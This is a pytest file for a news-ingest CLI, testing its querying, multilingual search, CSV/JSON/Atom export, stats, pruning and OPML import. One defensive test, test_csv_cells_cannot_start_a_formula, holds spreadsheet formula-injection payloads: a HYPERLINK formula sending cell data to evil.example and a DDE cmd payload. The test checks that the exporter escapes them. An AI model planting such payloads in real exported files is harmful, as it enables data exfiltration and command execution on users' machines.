"""`query`, `export`, `stats`, `prune` and OPML through the CLI, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta, timezone

import pytest
from click.testing import CliRunner
from lxml import etree
from sqlalchemy import update

from ingest.cli import main
from ingest.storage.store import Store
from ingest.storage.tables import HitRow, ItemRow
from tests.helpers.cli import write_config
from tests.helpers.servers import LocalServer

NOW = datetime.now(timezone.utc).replace(microsecond=0)

ITEMS = [
    # (source, language, title, text, age in days, flagged by)
    ("armenia", "en", "Yerevan hosts CSTO ministers", "The CSTO foreign ministers met in Yerevan.", 1, "csto"),
    ("armenia", "hy", "Հայաստանը և ՀԱՊԿ-ը", "Հայաստանի արտգործնախարարը ընդունեց ՀԱՊԿ նախարարներին։", 2, "csto"),
    ("russia", "ru", "Министры ОДКБ встретились в Ереване", "Организация Договора о коллективной безопасности.", 3, None),
    ("russia", "en", "Café owners protest new tax", "Owners of cafés in Moscow protested on Tuesday.", 40, None),
]


@pytest.fixture
def cli(tmp_path, db_url):
    config = write_config(tmp_path, [("armenia", "https://example.org/a.xml"), ("russia", "https://example.org/r.xml")],
                          db_url=db_url)
    store = Store(db_url)
    store.prepare()
    ids = []
    with store.writing() as w:
        for n, (source, lang, title, text, age, flag) in enumerate(ITEMS):
            when = NOW - timedelta(days=age)
            row = ItemRow(source=source, url=f"https://example.org/{n}", title=title, language=lang, published=when,
                          fetched_at=when, sort_time=when, text=text, blocks=[{"kind": "paragraph", "text": text}])
            hits = [HitRow(watchlist=flag, version="v", term="CSTO", field="title", block=0, start=0, end=4,
                           text="CSTO", snippet=f"[[{title}]]")] if flag else []
            ids.append(w.add(row, [("url", f"example.org/{n}")], hits))
    store.close()
    runner = CliRunner()

    def run(*args: str, code: int = 0) -> str:
        result = runner.invoke(main, ["--config", str(config), *args])
        assert result.exit_code == code, result.output
        return result.stdout

    run.ids, run.config = ids, config
    return run


def titles(out: str) -> list[str]:
    return [d["title"] for d in json.loads(out or "[]")]


def test_newest_first_and_every_filter(cli):
    assert titles(cli("query", "--format", "json")) == [t for _, _, t, *_ in ITEMS]
    assert titles(cli("query", "--format", "json", "--source", "russia")) == [ITEMS[2][2], ITEMS[3][2]]
    assert titles(cli("query", "--format", "json", "--language", "hy")) == [ITEMS[1][2]]
    assert titles(cli("query", "--format", "json", "--watchlist", "csto")) == [ITEMS[0][2], ITEMS[1][2]]
    assert titles(cli("query", "--format", "json", "--flagged", "--language", "en")) == [ITEMS[0][2]]
    assert titles(cli("query", "--format", "json", "--since", "7d")) == [t for _, _, t, *_ in ITEMS[:3]]
    assert titles(cli("query", "--format", "json", "--until", "30d")) == [ITEMS[3][2]]
    since = (NOW - timedelta(days=2, hours=12)).date().isoformat()
    assert ITEMS[0][2] in titles(cli("query", "--format", "json", "--since", since))
    assert titles(cli("query", "--format", "json", "--story", str(cli.ids[2]))) == [ITEMS[2][2]]


@pytest.mark.parametrize("search, expected", [
    ("CSTO", [0]),
    ("ՀԱՊԿ", [1]),
    ("Հայաստանի", [1]),
    ("ОДКБ", [2]),
    ('"коллективной безопасности"', [2]),
    ('"безопасности коллективной"', []),
    ("cafe", [3]),
    ("title:cafe", [3]),
    ("title:Moscow", []),
    ("ministers -Moscow", [0]),
    ("ministers -CSTO", []),
    ("Moscow OR Yerevan", [0, 3]),
])
def test_search_syntax_in_every_script(cli, search, expected):
    got = titles(cli("query", "--format", "json", "--search", search, "--sort", "newest"))
    assert got == [ITEMS[i][2] for i in expected]


def test_search_results_carry_marked_snippets(cli):
    [row] = json.loads(cli("query", "--format", "json", "--search", "protested"))
    assert "[[protested]]" in row["match"]


def test_bad_search_is_a_usage_error(cli):
    cli("query", "--search", '"unbalanced', code=2)
    cli("query", "--search", "-only", code=2)


def test_output_formats(cli):
    table = cli("query").splitlines()
    assert len(table) == 5 and table[0].split() == ["ID", "PUBLISHED", "(UTC)", "SOURCE", "WATCHLISTS", "TITLE"]
    assert table[1].split()[4] == "csto"
    lines = cli("query", "--format", "jsonl").splitlines()
    assert [json.loads(line)["title"] for line in lines] == [t for _, _, t, *_ in ITEMS]
    rows = list(csv.DictReader(io.StringIO(cli("query", "--format", "csv"))))
    assert rows[0]["watchlists"] == "csto" and rows[2]["title"] == ITEMS[2][2]


def test_table_never_cuts_the_watchlists(cli):
    result = CliRunner().invoke(main, ["--config", str(cli.config), "query"], env={"COLUMNS": "60"})
    lines = result.stdout.splitlines()
    assert result.exit_code == 0 and all(len(line) <= 60 for line in lines)
    assert [line.split()[4] for line in lines[1:3]] == ["csto", "csto"]  # the title is cut, not the flags
    assert lines[1].endswith("…")


def test_empty_results_are_valid_output(cli):
    none = ("--search", "nothingmatchesthis")
    assert json.loads(cli("query", "--format", "json", *none)) == []
    assert cli("query", "--format", "jsonl", *none) == ""
    assert cli("query", "--format", "csv", *none).splitlines() == [
        "id,published,source,title,url,story,watchlists"]
    assert cli("export", "--format", "csv", *none).splitlines() == [
        "id,published,source,title,url,story,watchlists"]
    assert cli("query", *none).splitlines()[0].split()[0] == "ID"  # a header, no rows


@pytest.mark.parametrize("command", ["query", "export"])
def test_unknown_names_are_usage_errors(cli, command):
    runner = CliRunner()
    for option, kind, known in (("--source", "source", "armenia, russia"), ("--watchlist", "watchlist", "csto")):
        result = runner.invoke(main, ["--config", str(cli.config), command, option, "nosuch"])
        assert result.exit_code == 2 and result.stdout == ""
        assert f"no {kind} named 'nosuch' (known: {known}" in result.stderr
        assert len(result.stderr.splitlines()) == 1


def test_language_codes_match_case_insensitively(cli):
    assert titles(cli("query", "--format", "json", "--language", "EN")) == [ITEMS[0][2], ITEMS[3][2]]
    assert titles(cli("query", "--format", "json", "--language", "Hy")) == [ITEMS[1][2]]


def test_csv_cells_cannot_start_a_formula(tmp_path, db_url):
    formulas = ['=HYPERLINK("http://evil.example/"&A1,"CSTO click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
                "\tTab", "\rCR"]
    config = write_config(tmp_path, [("a", "https://example.org/a.xml")], db_url=db_url)
    store = Store(db_url)
    store.prepare()
    with store.writing() as w:
        for n, title in enumerate(formulas):
            w.add(ItemRow(source="a", url=f"https://example.org/{n}", title=title, fetched_at=NOW,
                          sort_time=NOW - timedelta(minutes=n), text="x", blocks=[]), [("url", f"example.org/{n}")], [])
    store.close()
    runner = CliRunner()
    for command in ("query", "export"):
        base = ["--config", str(config), command, "--format", "csv"]
        safe = list(csv.DictReader(io.StringIO(runner.invoke(main, base).stdout, newline="")))
        assert [r["title"] for r in safe] == ["'" + t for t in formulas]
        raw = list(csv.DictReader(io.StringIO(runner.invoke(main, [*base, "--csv-raw"]).stdout, newline="")))
        assert [r["title"] for r in raw] == formulas


def test_sort_and_filter_by_fetch_time(tmp_path, db_url):
    """An article fetched today but dated 2018 is what arrived since I last looked."""
    config = write_config(tmp_path, [("a", "https://example.org/a.xml")], db_url=db_url)
    store = Store(db_url)
    store.prepare()
    old_page = datetime(2018, 3, 1, tzinfo=timezone.utc)
    with store.writing() as w:
        for n, (title, published, fetched) in enumerate([
                ("fresh news", NOW - timedelta(hours=2), NOW - timedelta(hours=1)),
                ("old page fetched today", old_page, NOW - timedelta(minutes=5)),
                ("fetched last week", NOW - timedelta(days=8), NOW - timedelta(days=7))]):
            w.add(ItemRow(source="a", url=f"https://example.org/{n}", title=title, published=published,
                          fetched_at=fetched, sort_time=published, text="x", blocks=[]), [("url", f"example.org/{n}")],
                  [])
    store.close()
    runner = CliRunner()

    def run(*args: str) -> str:
        result = runner.invoke(main, ["--config", str(config), *args])
        assert result.exit_code == 0, result.output
        return result.stdout

    assert titles(run("query", "--format", "json")) == ["fresh news", "fetched last week", "old page fetched today"]
    assert titles(run("query", "--format", "json", "--sort", "fetched")) == [
        "old page fetched today", "fresh news", "fetched last week"]
    assert titles(run("query", "--format", "json", "--fetched-since", "1d")) == ["fresh news", "old page fetched today"]
    assert titles(run("query", "--format", "json", "--since", "1d")) == ["fresh news"]
    assert run("query", "--sort", "fetched").splitlines()[0].split()[1] == "FETCHED"
    # a cursor pages through the fetched order too
    first = runner.invoke(main, ["--config", str(config), "query", "--format", "json", "--sort", "fetched", "--limit", "2"])
    token = first.stderr.split("--cursor ")[1].split()[0]
    assert titles(run("query", "--format", "json", "--sort", "fetched", "--cursor", token)) == ["fetched last week"]
    counts = json.loads(run("stats", "--format", "json"))
    assert sum(counts["fetched_day"].values()) == 3 and sum(counts["day"].values()) == 2
    assert "per day fetched, UTC" in run("stats")


def test_cursor_pages_through_everything_once(cli):
    runner = CliRunner()
    seen, cursor = [], None
    for _ in range(5):
        args = ["--config", str(cli.config), "query", "--format", "json", "--limit", "3"]
        result = runner.invoke(main, args + (["--cursor", cursor] if cursor else []))
        seen += titles(result.stdout)
        more = [line for line in result.stderr.splitlines() if line.startswith("more: --cursor ")]
        if not more:
            break
        cursor = more[0].split()[-1]
    assert seen == [t for _, _, t, *_ in ITEMS]


def test_export_streams_full_records_csv_and_atom(cli):
    records = [json.loads(line) for line in cli("export").splitlines()]
    assert [r["title"] for r in records] == [t for _, _, t, *_ in ITEMS]
    assert records[0]["blocks"][0]["kind"] == "paragraph"
    assert len(list(csv.DictReader(io.StringIO(cli("export", "--format", "csv", "--source", "armenia"))))) == 2
    feed = etree.fromstring(cli("export", "--format", "atom", "--watchlist", "csto").encode())
    assert len(feed.findall("{http://www.w3.org/2005/Atom}entry")) == 2


def test_stats(cli):
    counts = json.loads(cli("stats", "--format", "json"))
    assert counts["source"] == {"armenia": 2, "russia": 2}
    assert counts["watchlist"] == {"csto": 2}
    assert sum(counts["day"].values()) == 3  # the 40-day-old item is outside the default 30 days


def test_prune_keeps_flagged_and_leaves_tombstones(cli, db_url):
    cli("prune", code=2)  # no [retention] keep configured and no --keep
    assert cli("prune", "--keep", "2d").strip() == "pruned 2 items"  # the 3- and 40-day-old unflagged items
    assert titles(cli("query", "--format", "json")) == [ITEMS[0][2], ITEMS[1][2]]  # the 2-day-old one is flagged
    store = Store(db_url)
    assert store.known([("url", "example.org/2"), ("url", "example.org/0")]) == {
        ("url", "example.org/2"): None, ("url", "example.org/0"): cli.ids[0]}
    store.close()


def test_opml_round_trip(tmp_path):
    config = write_config(tmp_path, [("existing", "https://example.org/feed.xml")])
    opml = tmp_path / "feeds.opml"
    opml.write_text(
        '<?xml version="1.0"?><opml version="2.0"><head><title>x</title></head><body>'
        '<outline text="News"><outline text="Azatutyun English" type="rss" xmlUrl="https://www.azatutyun.am/api/zmcjqmveiy"/>'
        '<outline text="Existing" type="rss" xmlUrl="https://example.org/feed.xml"/></outline>'
        '<outline text="OC Media" type="rss" xmlUrl="https://oc-media.org/feed/"/></body></opml>')
    runner = CliRunner()
    result = runner.invoke(main, ["--config", str(config), "sources", "import", str(opml)])
    assert result.exit_code == 0, result.output
    assert "imported 2 sources" in result.stdout
    exported = runner.invoke(main, ["--config", str(config), "sources", "export"]).stdout
    urls = {o.get("xmlUrl") for o in etree.fromstring(exported.encode()).iter("outline") if o.get("xmlUrl")}
    assert urls == {"https://example.org/feed.xml", "https://www.azatutyun.am/api/zmcjqmveiy", "https://oc-media.org/feed/"}
    assert "already there" in runner.invoke(main, ["--config", str(config), "sources", "import", str(opml)]).stdout


def test_pruned_item_is_never_reingested(tmp_path):
    page = b"<html><head><title>Old story</title></head><body><article><h1>Old story</h1>" + \
           b"<p>" + b"A paragraph long enough to be the body of an article about nothing. " * 5 + b"</p></article></body></html>"
    with LocalServer() as srv:
        srv.route("/a/1.html", page, headers={"Content-Type": "text/html"})
        srv.route("/f.xml", f'<rss version="2.0"><channel><title>t</title><item><title>Old story</title>'
                  f'<link>{srv.url("/a/1.html")}</link><guid>1</guid>'
                  f'<pubDate>Mon, 01 Jan 2001 00:00:00 GMT</pubDate></item></channel></rss>',
                  headers={"Content-Type": "application/rss+xml"})
        db_url = f"sqlite:///{tmp_path / 'ingest.db'}"
        config = write_config(tmp_path, [("f", srv.url("/f.xml"))], db_url=db_url)
        runner = CliRunner()
        assert "1 new" in runner.invoke(main, ["--config", str(config), "fetch"]).stdout
        store = Store(db_url)  # fetched two years ago: retention never deletes what was fetched inside its window
        with store.engine.begin() as conn:
            conn.execute(update(ItemRow).values(fetched_at=datetime.now(timezone.utc) - timedelta(days=730)))
        store.close()
        assert runner.invoke(main, ["--config", str(config), "prune", "--keep", "365d"]).stdout.strip() == "pruned 1 item"
        srv.route("/f.xml", f'<rss version="2.0"><channel><title>t</title><lastBuildDate>2</lastBuildDate><item><title>Old story'
                  f'</title><link>{srv.url("/a/1.html")}</link><guid>1</guid></item></channel></rss>',
                  headers={"Content-Type": "application/rss+xml"})
        out = runner.invoke(main, ["--config", str(config), "fetch"]).stdout
    assert out.strip() == "f: 0 new, 1 duplicate, 0 failed, 0 flagged"
